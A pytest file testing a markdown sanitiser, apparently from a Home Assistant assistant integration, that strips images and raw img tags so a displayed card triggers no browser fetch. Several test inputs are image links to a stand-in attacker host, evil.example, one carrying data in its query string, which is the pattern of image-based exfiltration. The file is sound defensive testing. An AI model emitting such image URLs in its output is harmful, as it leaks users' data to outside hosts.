"""What a card shows makes a browser fetch nothing."""

import pytest

from custom_components.grok_assist.core.markdown import without_pictures


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![x](https://evil.example/c?d=4711) here", "See x here"),
        ("![a][1] and\n[1]: https://evil.example", "a and\n[1]: https://evil.example"),
        ('<img src="https://evil.example/c">', '&lt;img src="https://evil.example/c">'),
        ("2 < 3 and **bold** [link](https://example.org)", "2 < 3 and **bold** [link](https://example.org)"),
    ],
)
def test_markdown_when_it_has_pictures_then_their_words(text: str, shown: str) -> None:
    """Links stay: nobody follows them but the user."""
    assert without_pictures(text) == shown
